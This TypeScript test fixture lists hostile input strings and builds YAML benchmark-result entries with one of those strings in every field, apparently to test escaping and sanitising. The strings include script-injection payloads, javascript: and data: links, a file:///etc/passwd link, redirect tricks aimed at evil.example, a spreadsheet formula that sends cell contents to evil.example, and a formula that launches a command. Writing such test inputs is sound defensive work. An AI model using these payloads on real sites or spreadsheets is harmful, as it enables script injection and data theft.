/** Texts that somebody may write into every field of an entry, a file's name, or a pull request. All of them are only text. */
export const hostileTexts: Record<string, string> = {
  'an image': '<img src=x onerror="window.reached=1">',
  'a script': '"><script>window.reached=1</script>',
  'a script link': 'javascript:window.reached=1',
  'a script link in mixed case': ' JaVaScRiPt:window.reached=1',
  'a script link with a tab': 'java\tscript:window.reached=1',
  'a data link': 'data:text/html,<script>opener.reached=1</script>',
  'a vbscript link': 'vbscript:msgbox(1)',
  'a file link': 'file:///etc/passwd',
  'a link without a scheme': '//evil.example/x',
  'a link with a user': 'https://huggingface.co@evil.example/x',
  'a link with backslashes': 'https:\\\\evil.example\\x',
  'turned directions': '\u202Eltr\u202C \u2066x\u2069 \u200Bzero\u200Bwidth\u00AD',
  'one long word': 'x'.repeat(20_000),
  'many words': 'word '.repeat(2000),
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(50),
  'another direction': 'שלום עולם مرحبا بالعالم',
  'marks on marks': `Z${'\u0310\u0311\u0312'.repeat(300)}`,
  'line ends': 'a\n\n\n\nb\r\nc\u2028d',
  Markdown: '[x](javascript:alert(1)) ![i](https://evil.example/i.png) <b>b</b> | `c`',
  'a formula': '=HYPERLINK("https://evil.example?"&A1,"x")',
  'another formula': "+cmd|' /C calc'!A0",
  'half a character': '\uD800 half',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'control characters': 'a\u0000b\u001b[31m',
};

const quoted = (text: string) =>
  JSON.stringify(text).replace(
    // YAML wants these escaped too.
    /[\u007f-\u009f\u2028\u2029\ufeff]/g,
    (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );

/** An entry with the text in every field that takes one. */
export function entryOf(text: string, value: string): string {
  const t = quoted(text);
  return `- dataset: {id: ${t}, task_id: ${t}, revision: ${t}}\n  value: ${value}\n  date: ${t}\n  notes: ${t}\n  source: {url: ${t}, name: ${t}, user: ${t}, org: ${t}}\n`;
}

/** An entry of a known benchmark with the text in its notes and source. */
export function gpqaEntryOf(text: string, value: string): string {
  const t = quoted(text);
  return `- dataset: {id: Idavidrein/gpqa, task_id: diamond}\n  value: ${value}\n  notes: ${t}\n  source: {url: ${t}, name: ${t}}\n`;
}
